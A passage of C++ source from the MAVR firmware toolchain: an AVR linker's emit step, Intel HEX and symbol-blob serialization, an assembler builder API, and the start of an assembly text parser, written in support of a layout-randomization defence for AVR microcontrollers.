      data_bytes_ += static_cast<std::uint32_t>((e.init.size() + 1) & ~1ull);
    }

    Image image;
    image.options = in_.options;
    std::vector<std::uint16_t> words(text_words_, 0xFFFF);

    for (LoweredFn& fn : fns_) {
      std::uint32_t off = fn.word_addr;
      for (std::size_t i = 0; i < fn.items.size(); ++i) {
        const Item& it = fn.items[i];
        if (const auto* raw = std::get_if<item::Raw>(&it)) {
          words[off++] = raw->w;
        } else if (const auto* c = std::get_if<item::CallSym>(&it)) {
          const std::uint32_t target = fn_named(c->sym).word_addr;
          if (fn.call_short[i]) {
            words[off] = enc_rel_jump(
                c->is_call ? Op::Rcall : Op::Rjmp,
                static_cast<std::int32_t>(target) -
                    static_cast<std::int32_t>(off + 1));
            off += 1;
          } else {
            auto [w1, w2] =
                enc_abs_jump(c->is_call ? Op::Call : Op::Jmp, target);
            words[off] = w1;
            words[off + 1] = w2;
            off += 2;
          }
        } else if (const auto* j = std::get_if<item::JmpInto>(&it)) {
          MAVR_REQUIRE(j->byte_offset % 2 == 0, "odd jump offset");
          const std::uint32_t target =
              fn_named(j->sym).word_addr + j->byte_offset / 2;
          auto [w1, w2] = enc_abs_jump(j->is_call ? Op::Call : Op::Jmp, target);
          words[off] = w1;
          words[off + 1] = w2;
          off += 2;
        } else if (const auto* ls = std::get_if<item::LdsSts>(&it)) {
          const std::uint16_t addr = ram_addr(ls->sym, ls->offset);
          auto [w1, w2] = ls->store ? enc_sts(addr, ls->reg)
                                    : enc_lds(ls->reg, addr);
          words[off] = w1;
          words[off + 1] = w2;
          off += 2;
        } else if (const auto* ld = std::get_if<item::LdiData>(&it)) {
          const std::uint16_t addr = ram_addr(ld->sym, ld->offset);
          words[off++] = enc_imm(
              Op::Ldi, ld->reg,
              static_cast<std::uint8_t>(ld->high ? (addr >> 8) : addr));
        } else if (const auto* lp = std::get_if<item::LdiPm>(&it)) {
          auto lbl = fn.label_offsets.find(lp->label_id);
          MAVR_REQUIRE(lbl != fn.label_offsets.end(), "unbound label");
          const std::uint32_t value = fn.word_addr + lbl->second;
          words[off] = enc_imm(
              Op::Ldi, lp->reg,
              static_cast<std::uint8_t>(value >> (8 * lp->part)));
          image.ldi_code_pointers.push_back(off * 2);
          off += 1;
        } else if (const auto* ll = std::get_if<item::LdiLate>(&it)) {
          words[off++] = enc_imm(Op::Ldi, ll->reg, late_value(ll->which));
        } else if (const auto* br = std::get_if<item::LocalBranch>(&it)) {
          auto lbl = fn.label_offsets.find(br->label_id);
          MAVR_REQUIRE(lbl != fn.label_offsets.end(), "unbound label");
          const std::int32_t delta =
              static_cast<std::int32_t>(fn.word_addr + lbl->second) -
              static_cast<std::int32_t>(off + 1);
          words[off++] =
              enc_branch(br->set ? Op::Brbs : Op::Brbc, br->bit, delta);
        } else if (const auto* rj = std::get_if<item::LocalRjmp>(&it)) {
          auto lbl = fn.label_offsets.find(rj->label_id);
          MAVR_REQUIRE(lbl != fn.label_offsets.end(), "unbound label");
          const std::int32_t delta =
              static_cast<std::int32_t>(fn.word_addr + lbl->second) -
              static_cast<std::int32_t>(off + 1);
          words[off++] = enc_rel_jump(Op::Rjmp, delta);
        } else if (std::holds_alternative<item::Bind>(it)) {
          // no bytes
        } else {
          throw support::InvariantError("unlowered pseudo item at emit");
        }
      }
      MAVR_CHECK(off == fn.word_addr + fn.word_size,
                 "emitted size mismatch in " + fn.name);
    }

    // Flatten text to bytes.
    MAVR_REQUIRE(in_.reserve_padding_bytes % 2 == 0,
                 "padding reserve must be even");
    image.bytes.reserve(words.size() * 2 + in_.reserve_padding_bytes +
                        data_bytes_);
    for (std::uint16_t w : words) {
      image.bytes.push_back(static_cast<std::uint8_t>(w & 0xFF));
      image.bytes.push_back(static_cast<std::uint8_t>(w >> 8));
    }
    image.text_end = static_cast<std::uint32_t>(image.bytes.size());
    // Reserved randomization-padding gap (erased-flash bytes).
    image.bytes.insert(image.bytes.end(), in_.reserve_padding_bytes, 0xFF);
    image.data_init_offset = static_cast<std::uint32_t>(image.bytes.size());
    image.data_ram_base = in_.mcu->sram_base;
    image.data_bytes = data_bytes_;

    // Append .data initializers, resolving code pointers.
    for (const data::Entry& entry : in_.data) {
      const std::uint32_t base = static_cast<std::uint32_t>(image.bytes.size());
      image.bytes.insert(image.bytes.end(), entry.init.begin(),
                         entry.init.end());
      if (entry.init.size() % 2 != 0) image.bytes.push_back(0);
      for (const auto& [slot_off, ref] : entry.code_ptrs) {
        const LoweredFn& target = fn_named(ref.sym);
        MAVR_REQUIRE(ref.byte_offset % 2 == 0, "odd code pointer offset");
        const std::uint32_t value = target.word_addr + ref.byte_offset / 2;
        support::store_u16_le(image.bytes, base + slot_off,
                              static_cast<std::uint16_t>(value & 0xFFFF));
        image.bytes[base + slot_off + 2] =
            static_cast<std::uint8_t>(value >> 16);
        image.pointer_slots.push_back(
            PointerSlot{.image_offset = base + slot_off, .width = 3});
      }
    }

    MAVR_REQUIRE(image.bytes.size() <= in_.mcu->flash_bytes,
                 "image exceeds flash size");

    // Symbols (already ascending: layout order).
    for (const LoweredFn& fn : fns_) {
      Symbol s;
      s.name = fn.name;
      s.addr = fn.word_addr * 2;
      s.size = fn.word_size * 2;
      s.kind = (fn.name == "__vectors") ? Symbol::Kind::Object
                                        : Symbol::Kind::Function;
      s.movable = fn.movable;
      image.symbols.push_back(std::move(s));
    }
    for (const data::Entry& entry : in_.data) {
      image.data_symbols.push_back(
          DataSymbol{entry.name, ram_addr(entry.name, 0),
                     static_cast<std::uint16_t>(entry.init.size())});
    }
    return image;
  }

  LinkInput in_;
  std::vector<AsmFunction> synthesized_;
  std::vector<AsmFunction*> ordered_;
  std::vector<LoweredFn> fns_;
  std::unordered_map<std::string, std::size_t> fn_index_;
  std::unordered_map<std::string, std::uint16_t> ram_index_;
  std::uint32_t text_words_ = 0;
  std::uint32_t data_bytes_ = 0;
};

}  // namespace

Image link(LinkInput input) { return Linker(std::move(input)).run(); }

}  // namespace mavr::toolchain
