// Intel HEX encoding/decoding.
//
// The flash utility uploads firmware as Intel HEX; MAVR's preprocessor
// prepends the symbol blob to the HEX file before it is written to the
// external flash chip (paper §VI-B2). 256 KiB images need extended linear
// address (type 04) records; type 02 segment records are accepted on parse.
#pragma once

#include <cstdint>
#include <string>

#include "support/bytes.hpp"

namespace mavr::toolchain {

/// Encodes `data` (starting at address `base`) as Intel HEX text with
/// `record_len`-byte data records.
std::string intel_hex_encode(const support::Bytes& data, std::uint32_t base = 0,
                             std::size_t record_len = 16);

/// Decoded HEX contents: a flat byte image and its base address.
struct HexImage {
  support::Bytes data;
  std::uint32_t base = 0;
};

/// Parses Intel HEX text. Gaps between records are filled with 0xFF.
/// Throws support::DataError on malformed records or checksum mismatch.
HexImage intel_hex_decode(const std::string& text);

}  // namespace mavr::toolchain
