#include "toolchain/image.hpp"

#include <algorithm>

#include "support/bytes.hpp"
#include "support/crc.hpp"
#include "support/error.hpp"

namespace mavr::toolchain {

std::vector<Symbol> Image::functions() const {
  std::vector<Symbol> out;
  for (const Symbol& s : symbols) {
    if (s.kind == Symbol::Kind::Function) out.push_back(s);
  }
  std::sort(out.begin(), out.end(),
            [](const Symbol& a, const Symbol& b) { return a.addr < b.addr; });
  return out;
}

std::size_t Image::function_count() const {
  std::size_t n = 0;
  for (const Symbol& s : symbols) {
    if (s.kind == Symbol::Kind::Function) ++n;
  }
  return n;
}

const Symbol* Image::find(std::string_view name) const {
  for (const Symbol& s : symbols) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

const DataSymbol* Image::find_data(std::string_view name) const {
  for (const DataSymbol& s : data_symbols) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

const Symbol* Image::function_containing(std::uint32_t byte_addr) const {
  // symbols are kept ascending by the linker; binary search on addr.
  const Symbol* best = nullptr;
  std::size_t lo = 0, hi = symbols.size();
  while (lo < hi) {
    const std::size_t mid = (lo + hi) / 2;
    if (symbols[mid].addr <= byte_addr) {
      best = &symbols[mid];
      lo = mid + 1;
    } else {
      hi = mid;
    }
  }
  if (best != nullptr && best->kind == Symbol::Kind::Function &&
      byte_addr < best->addr + best->size) {
    return best;
  }
  return nullptr;
}

std::uint16_t Image::word_at(std::uint32_t offset) const {
  return support::load_u16_le(bytes, offset);
}

void Image::set_word_at(std::uint32_t offset, std::uint16_t value) {
  support::store_u16_le(bytes, offset, value);
}

namespace {
constexpr std::uint32_t kBlobMagic = 0x4D565253;  // "MVRS"
}

support::Bytes SymbolBlob::serialize() const {
  MAVR_REQUIRE(function_addrs.size() == function_sizes.size(),
               "address/size arrays must be parallel");
  support::Bytes out;
  support::ByteWriter w(out);
  w.u32_le(kBlobMagic);
  w.u32_le(static_cast<std::uint32_t>(function_addrs.size()));
  w.u32_le(static_cast<std::uint32_t>(pointer_slots.size()));
  w.u32_le(text_end);
  w.u32_le(layout_end);
  w.u32_le(first_movable);
  w.u8(has_ldi_code_pointers ? 1 : 0);
  for (std::size_t i = 0; i < function_addrs.size(); ++i) {
    w.u32_le(function_addrs[i]);
    w.u32_le(function_sizes[i]);
  }
  for (const PointerSlot& slot : pointer_slots) {
    w.u32_le(slot.image_offset);
    w.u8(slot.width);
  }
  w.u16_le(support::crc16_x25(out));
  return out;
}

SymbolBlob SymbolBlob::deserialize(std::span<const std::uint8_t> data) {
  if (data.size() < 27) throw support::DataError("symbol blob truncated");
  const std::uint16_t stored_crc =
      support::load_u16_le(data, data.size() - 2);
  const std::uint16_t computed =
      support::crc16_x25(data.first(data.size() - 2));
  if (stored_crc != computed) {
    throw support::DataError("symbol blob CRC mismatch");
  }
  support::ByteReader r(data.first(data.size() - 2));
  if (r.u32_le() != kBlobMagic) {
    throw support::DataError("symbol blob bad magic");
  }
  SymbolBlob blob;
  const std::uint32_t n_fns = r.u32_le();
  const std::uint32_t n_slots = r.u32_le();
  blob.text_end = r.u32_le();
  blob.layout_end = r.u32_le();
  blob.first_movable = r.u32_le();
  blob.has_ldi_code_pointers = r.u8() != 0;
  if (r.remaining() != std::size_t{n_fns} * 8 + std::size_t{n_slots} * 5) {
    throw support::DataError("symbol blob length mismatch");
  }
  blob.function_addrs.reserve(n_fns);
  blob.function_sizes.reserve(n_fns);
  std::uint32_t prev = 0;
  for (std::uint32_t i = 0; i < n_fns; ++i) {
    const std::uint32_t addr = r.u32_le();
    const std::uint32_t size = r.u32_le();
    if (i > 0 && addr < prev) {
      throw support::DataError("symbol blob addresses not ascending");
    }
    prev = addr;
    blob.function_addrs.push_back(addr);
    blob.function_sizes.push_back(size);
  }
  blob.pointer_slots.reserve(n_slots);
  for (std::uint32_t i = 0; i < n_slots; ++i) {
    PointerSlot slot;
    slot.image_offset = r.u32_le();
    slot.width = r.u8();
    if (slot.width != 2 && slot.width != 3) {
      throw support::DataError("symbol blob bad pointer width");
    }
    blob.pointer_slots.push_back(slot);
  }
  return blob;
}

SymbolBlob SymbolBlob::from_image(const Image& image) {
  SymbolBlob blob;
  blob.text_end = image.text_end;
  blob.layout_end = image.data_init_offset;
  blob.has_ldi_code_pointers = !image.ldi_code_pointers.empty();
  bool seen_movable = false;
  for (const Symbol& s : image.functions()) {
    blob.function_addrs.push_back(s.addr);
    blob.function_sizes.push_back(s.size);
    if (s.movable && !seen_movable) {
      blob.first_movable = s.addr;
      seen_movable = true;
    }
  }
  blob.pointer_slots = image.pointer_slots;
  return blob;
}

}  // namespace mavr::toolchain
