// The MAVR toolchain linker.
//
// Lays function blocks out in flash, resolves relocations, and implements
// the two link-time behaviours the paper's §VI-B1 revolves around:
//
//  * **relaxation** (GNU ld default, `--no-relax` to disable): CALL/JMP are
//    shrunk to RCALL/RJMP when the target is within ±2K words. MAVR
//    requires relaxation *off* so every inter-function transfer is a
//    patchable long-form absolute instruction;
//  * **call-prologue consolidation** (`-mcall-prologues`): framed functions
//    share one __prologue_saves__/__epilogue_restores__ blob, reached via
//    LDI-encoded code pointers — which concentrates gadgets and defeats the
//    patcher, so MAVR requires it *off* too.
//
// The linker also synthesizes the interrupt-vector table (pinned at address
// 0, never randomized) and the __init startup code that sets SP, copies
// .data from flash and calls main.
#pragma once

#include <vector>

#include "avr/mcu.hpp"
#include "toolchain/assembler.hpp"
#include "toolchain/image.hpp"

namespace mavr::toolchain {

struct LinkInput {
  std::vector<AsmFunction> functions;  ///< layout order = input order
  std::vector<data::Entry> data;
  /// Interrupt-vector assignments: slot index (1..kVectorSlots-1) →
  /// handler symbol. Slot 0 is always the reset vector (__init);
  /// unassigned slots jump to __bad_interrupt.
  std::vector<std::pair<std::uint32_t, std::string>> vectors;
  /// Erased-flash gap reserved between the code and the .data
  /// initializers. Gives the MAVR randomizer room to insert random
  /// padding between function blocks (the §VIII-B entropy extension)
  /// without moving the data region that __init's immediates reference.
  std::uint32_t reserve_padding_bytes = 0;
  const avr::McuSpec* mcu = &avr::atmega2560();
  ToolchainOptions options;
  std::string entry = "main";  ///< must name one of `functions`
};

/// Links the input into a flat firmware image.
/// Throws support::PreconditionError on undefined symbols, out-of-range
/// branches, or an image that exceeds the part's flash.
Image link(LinkInput input);

/// Number of interrupt-vector slots emitted (ATmega2560 has 57).
inline constexpr std::uint32_t kVectorSlots = 57;

}  // namespace mavr::toolchain
