// Programmatic AVR assembler.
//
// The firmware generator builds functions through this API instead of
// parsing assembly text. Each FunctionBuilder produces a relocatable
// function block; the Linker lays blocks out, applies relaxation and
// call-prologue consolidation (the paper's §VI-B1 flag discussion), and
// emits the flat image.
//
// Local control flow (labels, branches) stays inside a block, so function
// blocks can be moved as units by the MAVR randomizer; only the recorded
// relocations (calls, jumps, data addresses) need link- or patch-time
// resolution.
#pragma once

#include <cstdint>
#include <string>
#include <variant>
#include <vector>

#include "avr/instr.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"
#include "toolchain/encode.hpp"

namespace mavr::toolchain {

/// Opaque handle to a function-local label.
struct Label {
  int id = -1;
};

/// Link-time-constant immediates the linker substitutes into LDI during
/// emission (startup code needs the final data-section layout).
enum class LateImm : std::uint8_t {
  DataInitLo, DataInitMid, DataInitHi,  // flash byte address of .data image
  DataCountLo, DataCountHi,             // .data length in bytes
  RamBaseLo, RamBaseHi,                 // RAM destination of .data
  RamEndLo, RamEndHi,                   // initial stack pointer
};

namespace item {

/// Fully encoded instruction word(s) with no relocation.
struct Raw {
  std::uint16_t w;
};

/// Relaxable CALL/JMP to a global symbol (function start).
struct CallSym {
  std::string sym;
  bool is_call;  ///< true = call, false = tail jump
};

/// CALL/JMP into the *middle* of a symbol (cross-jumped epilogue tails,
/// prologue-blob entry points). Never relaxed; always the long form. These
/// are the "trampoline" targets that force the patcher's binary search
/// (paper §VI-B3).
struct JmpInto {
  std::string sym;
  std::uint32_t byte_offset;
  bool is_call;
};

/// LDS/STS whose 16-bit address is a data symbol (+offset) in RAM.
struct LdsSts {
  bool store;
  std::uint8_t reg;
  std::string sym;
  std::uint16_t offset;
};

/// LDI of the low or high byte of a data symbol's RAM address.
struct LdiData {
  std::uint8_t reg;
  std::string sym;
  std::uint16_t offset;
  bool high;
};

/// LDI of one byte (part 0=lo, 1=hi, 2=bits 16..23) of a *code* word
/// address (local label) — only produced by call-prologue lowering;
/// recorded in Image::ldi_code_pointers.
struct LdiPm {
  std::uint8_t reg;
  int label_id;
  std::uint8_t part;
};

/// LDI of a link-time-constant (startup code).
struct LdiLate {
  std::uint8_t reg;
  LateImm which;
};

/// Conditional branch to a local label (BRBS/BRBC, ±64 words).
struct LocalBranch {
  bool set;  ///< true = BRBS
  std::uint8_t bit;
  int label_id;
};

/// RJMP to a local label (±2K words).
struct LocalRjmp {
  int label_id;
};

/// Label definition point.
struct Bind {
  int label_id;
};

/// Function prologue: save registers, optionally allocate a stack frame and
/// establish Y as the frame pointer. Expanded by the linker per the
/// call-prologue option.
struct Prologue {
  std::vector<std::uint8_t> save_regs;  ///< callee-saved, ascending
  std::uint16_t frame_bytes;            ///< 0 = no frame/Y setup
};

/// Mirror image of Prologue, ending in RET.
struct Epilogue {
  std::vector<std::uint8_t> save_regs;
  std::uint16_t frame_bytes;
};

using Item = std::variant<Raw, CallSym, JmpInto, LdsSts, LdiData, LdiPm,
                          LdiLate, LocalBranch, LocalRjmp, Bind, Prologue,
                          Epilogue>;

}  // namespace item

/// One relocatable function block.
struct AsmFunction {
  std::string name;
  std::vector<item::Item> items;
  bool movable = true;
};

/// Builder for one function. Thin statically-typed wrappers over the
/// encoders; every method appends one item.
class FunctionBuilder {
 public:
  explicit FunctionBuilder(std::string name) { fn_.name = std::move(name); }

  AsmFunction take() { return std::move(fn_); }
  const std::string& name() const { return fn_.name; }

  // --- Labels ---------------------------------------------------------------
  Label make_label() { return Label{next_label_++}; }
  void bind(Label l) {
    MAVR_REQUIRE(l.id >= 0 && l.id < next_label_, "unknown label");
    put(item::Bind{l.id});
  }

  // --- Pseudo-ops -------------------------------------------------------------
  void prologue(std::vector<std::uint8_t> save_regs,
                std::uint16_t frame_bytes) {
    put(item::Prologue{std::move(save_regs), frame_bytes});
  }
  void epilogue(std::vector<std::uint8_t> save_regs,
                std::uint16_t frame_bytes) {
    put(item::Epilogue{std::move(save_regs), frame_bytes});
  }
  void call(std::string sym) { put(item::CallSym{std::move(sym), true}); }
  void jmp(std::string sym) { put(item::CallSym{std::move(sym), false}); }
  void jmp_into(std::string sym, std::uint32_t byte_offset) {
    put(item::JmpInto{std::move(sym), byte_offset, false});
  }
  void lds_sym(std::uint8_t rd, std::string sym, std::uint16_t offset = 0) {
    put(item::LdsSts{false, rd, std::move(sym), offset});
  }
  void sts_sym(std::string sym, std::uint8_t rr, std::uint16_t offset = 0) {
    put(item::LdsSts{true, rr, std::move(sym), offset});
  }
  void ldi_data(std::uint8_t rd, std::string sym, std::uint16_t offset,
                bool high) {
    put(item::LdiData{rd, std::move(sym), offset, high});
  }
  void ldi_late(std::uint8_t rd, LateImm which) {
    put(item::LdiLate{rd, which});
  }

  // --- Branches ----------------------------------------------------------------
  void brbs(std::uint8_t bit, Label l) { put(item::LocalBranch{true, bit, l.id}); }
  void brbc(std::uint8_t bit, Label l) { put(item::LocalBranch{false, bit, l.id}); }
  void breq(Label l) { brbs(avr::kZ, l); }
  void brne(Label l) { brbc(avr::kZ, l); }
  void brcs(Label l) { brbs(avr::kC, l); }
  void brcc(Label l) { brbc(avr::kC, l); }
  void brmi(Label l) { brbs(avr::kN, l); }
  void brpl(Label l) { brbc(avr::kN, l); }
  void brlt(Label l) { brbs(avr::kS, l); }
  void brge(Label l) { brbc(avr::kS, l); }
  void rjmp(Label l) { put(item::LocalRjmp{l.id}); }

  // --- Raw instructions ----------------------------------------------------------
  void raw(std::uint16_t w) { put(item::Raw{w}); }

  void ldi(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Ldi, rd, k)); }
  void cpi(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Cpi, rd, k)); }
  void subi(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Subi, rd, k)); }
  void sbci(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Sbci, rd, k)); }
  void andi(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Andi, rd, k)); }
  void ori(std::uint8_t rd, std::uint8_t k) { raw(enc_imm(avr::Op::Ori, rd, k)); }

  void add(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Add, rd, rr)); }
  void adc(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Adc, rd, rr)); }
  void sub(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Sub, rd, rr)); }
  void sbc(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Sbc, rd, rr)); }
  void and_(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::And, rd, rr)); }
  void or_(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Or, rd, rr)); }
  void eor(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Eor, rd, rr)); }
  void mov(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Mov, rd, rr)); }
  void cp(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Cp, rd, rr)); }
  void cpc(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Cpc, rd, rr)); }
  void cpse(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Cpse, rd, rr)); }
  void mul(std::uint8_t rd, std::uint8_t rr) { raw(enc_two_reg(avr::Op::Mul, rd, rr)); }
  void movw(std::uint8_t rd, std::uint8_t rr) { raw(enc_movw(rd, rr)); }

  void com(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Com, rd)); }
  void neg(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Neg, rd)); }
  void inc(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Inc, rd)); }
  void dec(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Dec, rd)); }
  void swap(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Swap, rd)); }
  void asr(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Asr, rd)); }
  void lsr(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Lsr, rd)); }
  void ror(std::uint8_t rd) { raw(enc_one_reg(avr::Op::Ror, rd)); }

  void adiw(std::uint8_t rd, std::uint8_t k) { raw(enc_adiw(avr::Op::Adiw, rd, k)); }
  void sbiw(std::uint8_t rd, std::uint8_t k) { raw(enc_adiw(avr::Op::Sbiw, rd, k)); }

  void in(std::uint8_t rd, std::uint8_t io_addr) { raw(enc_in(rd, io_addr)); }
  void out(std::uint8_t io_addr, std::uint8_t rr) { raw(enc_out(io_addr, rr)); }
  void push(std::uint8_t rr) { raw(enc_push(rr)); }
  void pop(std::uint8_t rd) { raw(enc_pop(rd)); }

  void lds(std::uint8_t rd, std::uint16_t addr) {
    auto [a, b] = enc_lds(rd, addr);
    raw(a);
    raw(b);
  }
  void sts(std::uint16_t addr, std::uint8_t rr) {
    auto [a, b] = enc_sts(addr, rr);
    raw(a);
    raw(b);
  }
  void ldd_y(std::uint8_t rd, std::uint8_t q) { raw(enc_ldd(rd, true, q)); }
  void ldd_z(std::uint8_t rd, std::uint8_t q) { raw(enc_ldd(rd, false, q)); }
  void std_y(std::uint8_t q, std::uint8_t rr) { raw(enc_std(true, q, rr)); }
  void std_z(std::uint8_t q, std::uint8_t rr) { raw(enc_std(false, q, rr)); }
  void ld_x(std::uint8_t rd) { raw(enc_ld_st(avr::Op::LdX, rd)); }
  void ld_x_inc(std::uint8_t rd) { raw(enc_ld_st(avr::Op::LdXInc, rd)); }
  void ld_y_inc(std::uint8_t rd) { raw(enc_ld_st(avr::Op::LdYInc, rd)); }
  void ld_z_inc(std::uint8_t rd) { raw(enc_ld_st(avr::Op::LdZInc, rd)); }
  void st_x(std::uint8_t rr) { raw(enc_ld_st(avr::Op::StX, rr)); }
  void st_x_inc(std::uint8_t rr) { raw(enc_ld_st(avr::Op::StXInc, rr)); }
  void st_y_inc(std::uint8_t rr) { raw(enc_ld_st(avr::Op::StYInc, rr)); }
  void st_z_inc(std::uint8_t rr) { raw(enc_ld_st(avr::Op::StZInc, rr)); }
  void lpm(std::uint8_t rd) { raw(enc_lpm(avr::Op::Lpm, rd)); }
  void lpm_inc(std::uint8_t rd) { raw(enc_lpm(avr::Op::LpmInc, rd)); }
  void elpm_inc(std::uint8_t rd) { raw(enc_lpm(avr::Op::ElpmInc, rd)); }

  void sbi(std::uint8_t io_addr, std::uint8_t bit) { raw(enc_sbi_cbi(avr::Op::Sbi, io_addr, bit)); }
  void cbi(std::uint8_t io_addr, std::uint8_t bit) { raw(enc_sbi_cbi(avr::Op::Cbi, io_addr, bit)); }
  void sbic(std::uint8_t io_addr, std::uint8_t bit) { raw(enc_skip_io(avr::Op::Sbic, io_addr, bit)); }
  void sbis(std::uint8_t io_addr, std::uint8_t bit) { raw(enc_skip_io(avr::Op::Sbis, io_addr, bit)); }
  void sbrc(std::uint8_t reg, std::uint8_t bit) { raw(enc_skip_reg(avr::Op::Sbrc, reg, bit)); }
  void sbrs(std::uint8_t reg, std::uint8_t bit) { raw(enc_skip_reg(avr::Op::Sbrs, reg, bit)); }
  void bst(std::uint8_t rd, std::uint8_t bit) { raw(enc_bst_bld(avr::Op::Bst, rd, bit)); }
  void bld(std::uint8_t rd, std::uint8_t bit) { raw(enc_bst_bld(avr::Op::Bld, rd, bit)); }

  void ret() { raw(enc_no_operand(avr::Op::Ret)); }
  void icall() { raw(enc_no_operand(avr::Op::Icall)); }
  void eicall() { raw(enc_no_operand(avr::Op::Eicall)); }
  void ijmp() { raw(enc_no_operand(avr::Op::Ijmp)); }
  void eijmp() { raw(enc_no_operand(avr::Op::Eijmp)); }
  void nop() { raw(enc_no_operand(avr::Op::Nop)); }
  void break_() { raw(enc_no_operand(avr::Op::Break)); }
  void wdr() { raw(enc_no_operand(avr::Op::Wdr)); }
  void sleep() { raw(enc_no_operand(avr::Op::Sleep)); }

  /// Word offset of a label from function start, valid only when every item
  /// before the bind point has a fixed size (no relaxable calls, no
  /// prologue pseudos). Used by the generator to create mid-function code
  /// pointers for dispatch tables. Throws when the offset is not fixed.
  std::uint32_t fixed_offset_of(Label l) const;

  /// Number of items emitted so far.
  std::size_t item_count() const { return fn_.items.size(); }

 private:
  void put(item::Item it) { fn_.items.push_back(std::move(it)); }

  AsmFunction fn_;
  int next_label_ = 0;
};

/// A code pointer stored in a data table: function start plus byte offset.
struct CodeRef {
  std::string sym;
  std::uint32_t byte_offset = 0;
};

namespace data {

/// One data-section entry.
struct Entry {
  std::string name;
  support::Bytes init;                ///< initialized payload (may be zeros)
  /// Code pointers at given byte offsets inside `init` (2-byte LE word
  /// addresses, resolved at link time and re-resolved by the patcher).
  std::vector<std::pair<std::uint16_t, CodeRef>> code_ptrs;
};

}  // namespace data

/// Builder for the RAM data section. Addresses are assigned sequentially
/// from the MCU's SRAM base — fixed across randomizations, which is why
/// LDS/STS never need patching (paper §V-B2 moves only function blocks).
class DataBuilder {
 public:
  /// Zero-initialized space of `size` bytes; returns nothing useful yet —
  /// addresses are assigned by the linker in insertion order.
  void reserve(std::string name, std::uint16_t size) {
    entries_.push_back({std::move(name), support::Bytes(size, 0), {}});
  }

  /// Initialized global.
  void global(std::string name, support::Bytes init) {
    entries_.push_back({std::move(name), std::move(init), {}});
  }

  /// Table of *far* code pointers (function dispatch table / vtable
  /// analogue — the structures the paper's preprocessor scans for,
  /// §VI-B2). Entries are 4 bytes apart: LE low word, bits-16..23 byte,
  /// one pad byte.
  void code_ptr_table(std::string name, std::vector<CodeRef> refs) {
    data::Entry entry;
    entry.name = std::move(name);
    entry.init.resize(refs.size() * 4, 0);
    for (std::size_t i = 0; i < refs.size(); ++i) {
      entry.code_ptrs.emplace_back(static_cast<std::uint16_t>(i * 4),
                                   std::move(refs[i]));
    }
    entries_.push_back(std::move(entry));
  }

  const std::vector<data::Entry>& entries() const { return entries_; }
  std::vector<data::Entry> take() { return std::move(entries_); }

 private:
  std::vector<data::Entry> entries_;
};

}  // namespace mavr::toolchain
