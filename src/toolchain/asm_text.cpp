#include "toolchain/asm_text.hpp"

#include <cctype>
#include <map>
#include <optional>
#include <sstream>
#include <vector>

#include "support/error.hpp"

namespace mavr::toolchain {

namespace {

using avr::Op;

[[noreturn]] void fail(int line, const std::string& message) {
  std::ostringstream os;
  os << "asm parse error at line " << line << ": " << message;
  throw support::DataError(os.str());
}

std::string_view trim(std::string_view s) {
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.front()))) {
    s.remove_prefix(1);
  }
  while (!s.empty() && std::isspace(static_cast<unsigned char>(s.back()))) {
    s.remove_suffix(1);
  }
  return s;
}

/// One operand token: register, number, identifier, or addressing form.
struct Operand {
  enum class Kind { Reg, Number, Ident, DataSym, YDisp, ZDisp, Indirect };
  Kind kind;
  std::uint8_t reg = 0;       // Reg
  std::int64_t number = 0;    // Number
  std::string ident;          // Ident / DataSym / Indirect ("X+", "-Y", ...)
  std::uint16_t offset = 0;   // DataSym offset / displacement
};

bool parse_number(std::string_view text, std::int64_t* out) {
  if (text.empty()) return false;
  try {
    std::size_t used = 0;
    const std::string s(text);
    const std::int64_t value = std::stoll(s, &used, 0);
    if (used != s.size()) return false;
    *out = value;
    return true;
  } catch (...) {
    return false;
  }
}

Operand parse_operand(std::string_view text, int line) {
  text = trim(text);
  if (text.empty()) fail(line, "empty operand");
  Operand op;

  // Register: rN.
  if ((text[0] == 'r' || text[0] == 'R') && text.size() >= 2 &&
      std::isdigit(static_cast<unsigned char>(text[1]))) {
    std::int64_t n = 0;
    if (parse_number(text.substr(1), &n) && n >= 0 && n < 32) {
      op.kind = Operand::Kind::Reg;
      op.reg = static_cast<std::uint8_t>(n);
      return op;
    }
  }
  // Displacement: Y+q / Z+q (also bare Y/Z as q=0 indirect-displaced).
  if ((text[0] == 'Y' || text[0] == 'Z') &&
      (text.size() == 1 || text[1] == '+')) {
    std::int64_t q = 0;
    if (text.size() > 1 && !parse_number(text.substr(2), &q)) {
      fail(line, "bad displacement: " + std::string(text));
    }
    if (q < 0 || q > 63) fail(line, "displacement out of range");
    op.kind = (text[0] == 'Y') ? Operand::Kind::YDisp : Operand::Kind::ZDisp;
    op.offset = static_cast<std::uint16_t>(q);
    return op;
  }
  // Indirect with pre-dec/post-inc: X, X+, -X, Y+, -Y, Z+, -Z.
  if (text == "X" || text == "X+" || text == "-X" || text == "Y+" ||
      text == "-Y" || text == "Z+" || text == "-Z") {
    op.kind = Operand::Kind::Indirect;
    op.ident = std::string(text);
    return op;
  }
